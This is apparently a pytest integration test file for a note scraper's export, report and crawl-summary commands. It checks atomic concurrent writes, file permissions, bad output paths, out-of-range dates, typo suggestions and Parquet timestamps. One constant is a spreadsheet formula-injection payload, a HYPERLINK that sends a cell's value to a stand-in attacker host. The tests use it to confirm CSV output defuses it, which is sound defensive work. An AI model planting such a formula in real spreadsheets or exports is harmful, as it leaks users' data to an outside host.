"""``scrapy export``, ``scrapy report`` and ``scrapy crawl-summary`` given hostile input:
files written at once, unusable paths, times out of range, typos, formulas in titles."""

from __future__ import annotations

import csv
import json
import os
import subprocess
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from tests.conftest import ROOT, run_scrapy, scrapy_command
from tests.items import example_note
from xhs_spider.store.batch import WriteBatch
from xhs_spider.store.sqlite import SqliteNoteStore

#: Every test here starts a process (a crawl, a command or a server).
pytestmark = pytest.mark.integration

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
FOOD = "homefeed_food_v3"


def stored_notes(path: Path, count: int, **changes: object) -> str:
    """An SQLite store holding *count* notes seen on the food channel; its URI."""
    batch = WriteBatch(run_id="setup")
    for number in range(count):
        note = {**example_note(), "note_id": "67f32a94000000001d%06x" % number, **changes}
        batch.notes.append(note)
        batch.appearances.append({
            "note_id": note["note_id"], "channel": FOOD, "page": 1, "position": number + 1,
            "crawled_at": "2026-11-22T00:00:00.000Z", "title": note["title"], "type": "image",
            "likes": 1, "author": {"user_id": "u", "nickname": "n", "avatar": None},
            "run_id": "setup",
        })
    batch.runs.append({"run_id": "setup", "crawl_id": "crawl-a", "spider": "feed",
                       "started_at": "2026-11-22T00:00:00.000Z",
                       "finished_at": "2026-11-22T00:01:00.000Z", "finish_reason": "finished"})
    with SqliteNoteStore(str(path)) as store:
        store.write(batch)
    return f"sqlite:///{path}"


def one_error_line(done: subprocess.CompletedProcess, status: int = 2) -> str:
    lines = [line for line in done.stderr.splitlines() if line.strip()]
    assert done.returncode == status and len(lines) == 1, done.stdout + done.stderr
    assert lines[0].startswith("Error: ") and "Traceback" not in done.stderr
    return lines[0]


def csv_rows(path: Path) -> list[dict]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.DictReader(file))


# Files written at once -----------------------------------------------------------


def test_two_exports_into_one_file_at_once_both_write_whole_files(tmp_path):
    store = stored_notes(tmp_path / "xhs.sqlite3", 1500)
    out_dir = tmp_path / "out"
    out = out_dir / "notes.csv"
    env = {k: v for k, v in os.environ.items() if not k.startswith(("JUSTONEAPI_", "XHS_"))}
    env["XHS_STORE_URI"] = store
    exports = [subprocess.Popen(scrapy_command("export", "notes", "-o", str(out)), cwd=ROOT, env=env,
                                stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
               for _ in range(2)]
    results = [export.communicate(timeout=180) for export in exports]

    assert [export.returncode for export in exports] == [0, 0], results
    assert all("Exported 1500 notes" in stdout for stdout, _ in results)
    rows = csv_rows(out)
    assert len(rows) == 1500 and len({row["note_id"] for row in rows}) == 1500
    assert b"\x00" not in out.read_bytes()
    assert os.listdir(out_dir) == ["notes.csv"]  # no temporary file left
    assert oct(out.stat().st_mode & 0o777) == oct(0o666 & ~current_umask())


def test_replacing_a_private_export_keeps_it_private(tmp_path):
    store = stored_notes(tmp_path / "xhs.sqlite3", 2)
    out = tmp_path / "notes.csv"
    out.write_text("old\n")
    out.chmod(0o600)
    done = run_scrapy(["export", "notes", "-o", str(out)], env={"XHS_STORE_URI": store})
    assert done.returncode == 0 and "Exported 2 notes" in done.stdout, done.stderr
    assert len(csv_rows(out)) == 2
    assert oct(out.stat().st_mode & 0o777) == oct(0o600)


COMMANDS_WRITING = {"export": (["export", "notes"], ".csv"), "report": (["report"], ".html")}


@pytest.mark.parametrize("command", list(COMMANDS_WRITING))
def test_an_output_refused_for_no_store_leaves_no_directory_behind(tmp_path, command):
    words, suffix = COMMANDS_WRITING[command]
    (tmp_path / "kept").mkdir()
    done = run_scrapy([*words, "-o", str(tmp_path / "kept" / "a" / "b" / f"x{suffix}")],
                      env={"XHS_STORE_URI": f"sqlite:///{tmp_path / 'none.sqlite3'}"})
    assert "no store at" in one_error_line(done)
    assert sorted(os.listdir(tmp_path)) == ["kept"] and os.listdir(tmp_path / "kept") == []


def current_umask() -> int:
    mask = os.umask(0o022)
    os.umask(mask)
    return mask


# Unusable output paths and times -------------------------------------------------


#: Each unusable output, as (path relative to the test's directory, words of the error).
UNUSABLE = {
    "in /proc": ("/proc/x{suffix}", "cannot write /proc/x{suffix} ("),
    "parent is a file": ("a-file/x{suffix}", "a part of its directory is a file"),
    "grandparent is a file": ("a-file/deep/x{suffix}", "a part of its directory is a file"),
    "a directory": ("taken{suffix}", "it is a directory"),
    "unknown extension": ("x.xlsx", "{unknown}"),
}
COMMANDS = {  # the command's words, the suffix it writes, its line for an unknown extension
    "export": (["export", "notes"], ".csv", "cannot tell the format"),
    "report": (["report"], ".html", "name the HTML file"),
}


@pytest.mark.parametrize("case", list(UNUSABLE))
@pytest.mark.parametrize("command", list(COMMANDS))
def test_an_unusable_output_is_one_line_exit_2_before_the_store_is_read(tmp_path, case, command):
    words, suffix, unknown = COMMANDS[command]
    (tmp_path / "a-file").write_text("")
    (tmp_path / f"taken{suffix}").mkdir()
    path, message = (part.format(suffix=suffix, unknown=unknown) for part in UNUSABLE[case])
    # No store there: had it been read first, the error would name the store.
    done = run_scrapy([*words, "-o", str(tmp_path / path)],
                      env={"XHS_STORE_URI": f"sqlite:///{tmp_path / 'none' / 'xhs.sqlite3'}"})
    assert message in one_error_line(done)
    assert sorted(os.listdir(tmp_path)) == ["a-file", f"taken{suffix}"]
    assert os.listdir(tmp_path / f"taken{suffix}") == []


@pytest.mark.skipif(os.geteuid() == 0, reason="root writes into a read-only directory")
def test_a_directory_without_write_permission_is_one_line_exit_2(tmp_path):
    locked = tmp_path / "locked"
    locked.mkdir(mode=0o500)
    done = run_scrapy(["export", "notes", "-o", str(locked / "x.csv")],
                      env={"XHS_STORE_URI": f"sqlite:///{tmp_path / 'none.sqlite3'}"})
    assert "Permission denied" in one_error_line(done)


@pytest.mark.parametrize("since", ["99999999d", "9999999999d", "9999-12-31T23:59-01:00",
                                   "0001-01-01T00:00+01:00"])
@pytest.mark.parametrize("command", ["export", "report"])
def test_a_since_out_of_range_is_one_line_exit_2(tmp_path, since, command):
    args = ["export", "notes", "-o", str(tmp_path / "x.csv")] if command == "export" else [
        "report", "-o", str(tmp_path / "x.html")]
    done = run_scrapy([*args, "--since", since],
                      env={"XHS_STORE_URI": f"sqlite:///{tmp_path / 'none.sqlite3'}"})
    assert one_error_line(done) == f"Error: --since {since!r} is out of range: name a time between the years 1 and 9999"
    assert list(tmp_path.iterdir()) == []


# Typos ---------------------------------------------------------------------------


@pytest.mark.parametrize("command", ["export", "report"])
def test_a_mistyped_channel_is_one_line_with_the_closest_exit_2(tmp_path, command):
    store = stored_notes(tmp_path / "xhs.sqlite3", 2)
    args = ["export", "notes", "-o", str(tmp_path / "x.csv")] if command == "export" else [
        "report", "-o", str(tmp_path / "x.html")]
    done = run_scrapy([*args, "--channel", "homefeed_fod_v3"], env={"XHS_STORE_URI": store})
    line = one_error_line(done)
    assert line.startswith("Error: Unknown channel --channel='homefeed_fod_v3'. Did you mean 'homefeed_food_v3'?")
    assert not (tmp_path / "x.csv").exists() and not (tmp_path / "x.html").exists()
    # A right channel given as a comma-separated list, as the crawl takes it.
    done = run_scrapy(["export", "notes", "-o", str(tmp_path / "x.csv"), "--channel",
                       f"{FOOD},homefeed_travel_v3"], env={"XHS_STORE_URI": store})
    assert done.returncode == 0 and "Exported 2 notes" in done.stdout, done.stderr


def test_a_mistyped_status_is_one_line_with_the_closest_exit_2(tmp_path):
    done = run_scrapy(["export", "notes", "-o", str(tmp_path / "x.csv"), "--status", "okk"],
                      env={"XHS_STORE_URI": f"sqlite:///{tmp_path / 'none.sqlite3'}"})
    assert "unknown note status 'okk'; did you mean 'ok'?" in one_error_line(done)


# Formulas and types ----------------------------------------------------------------


def test_a_formula_like_title_is_text_in_csv_and_raw_elsewhere(tmp_path):
    store = stored_notes(tmp_path / "xhs.sqlite3", 1, title=FORMULA, text="-5 degrees",
                         hashtags=["@everyone", "ok"])
    for name in ("notes.csv", "notes.jsonl", "notes.parquet", "raw.csv"):
        env = {"XHS_STORE_URI": store, **({"XHS_CSV_RAW_TEXT": "true"} if name == "raw.csv" else {})}
        done = run_scrapy(["export", "notes", "-o", str(tmp_path / name)], env=env)
        assert done.returncode == 0, done.stderr

    (row,) = csv_rows(tmp_path / "notes.csv")
    assert (row["title"], row["text"], row["hashtags"]) == ("'" + FORMULA, "'-5 degrees", "'@everyone | ok")
    assert row["counts.likes"] == str(example_note()["counts"]["likes"])  # numbers untouched
    (raw,) = csv_rows(tmp_path / "raw.csv")
    assert (raw["title"], raw["text"]) == (FORMULA, "-5 degrees")
    (line,) = (tmp_path / "notes.jsonl").read_text("utf-8").splitlines()
    assert json.loads(line)["title"] == FORMULA
    assert pq.read_table(tmp_path / "notes.parquet").to_pylist()[0]["title"] == FORMULA


def test_parquet_times_are_utc_timestamps(tmp_path):
    store = stored_notes(tmp_path / "xhs.sqlite3", 1)
    for collection in ("notes", "appearances", "metrics", "runs"):
        path = tmp_path / f"{collection}.parquet"
        done = run_scrapy(["export", collection, "-o", str(path)], env={"XHS_STORE_URI": store})
        assert done.returncode == 0, done.stderr
        schema = pq.read_schema(path)
        times = [field for field in schema if field.name.endswith("_at")]
        assert times, collection
        for field in times:
            assert field.type == pa.timestamp("ms", tz="UTC"), (collection, field.name, field.type)
    appearance = pq.read_table(tmp_path / "appearances.parquet").to_pylist()[0]
    assert appearance["crawled_at"].isoformat() == "2026-11-22T00:00:00+00:00"
    run = pq.read_table(tmp_path / "runs.parquet").to_pylist()[0]
    assert run["finished_at"].isoformat() == "2026-11-22T00:01:00+00:00"


# crawl-summary ---------------------------------------------------------------------


def test_crawl_summary_on_a_mistyped_store_path_creates_nothing(tmp_path):
    typo = tmp_path / "dta" / "xhs.sqlite3"
    for args in (["crawl-summary"], ["crawl-summary", "crawl-a"]):
        done = run_scrapy(args, env={"XHS_STORE_URI": f"sqlite:///{typo}"})
        assert one_error_line(done) == f"Error: no store at sqlite://{typo} (nothing crawled there yet?)"
    assert list(tmp_path.iterdir()) == []


def test_crawl_summary_without_an_id_lists_the_crawls(tmp_path):
    store = stored_notes(tmp_path / "xhs.sqlite3", 1)
    done = run_scrapy(["crawl-summary"], env={"XHS_STORE_URI": store})
    assert done.returncode == 0, done.stderr
    assert "crawl-a  last run started 2026-11-22T00:00:00.000Z, 1 run, outcome finished" in done.stdout
    listed = run_scrapy(["crawl-summary", "--json"], env={"XHS_STORE_URI": store})
    assert [crawl["crawl_id"] for crawl in json.loads(listed.stdout)] == ["crawl-a"]
    one = run_scrapy(["crawl-summary", "crawl-a"], env={"XHS_STORE_URI": store})
    assert one.returncode == 0 and "finished (1 run)" in one.stdout, one.stderr
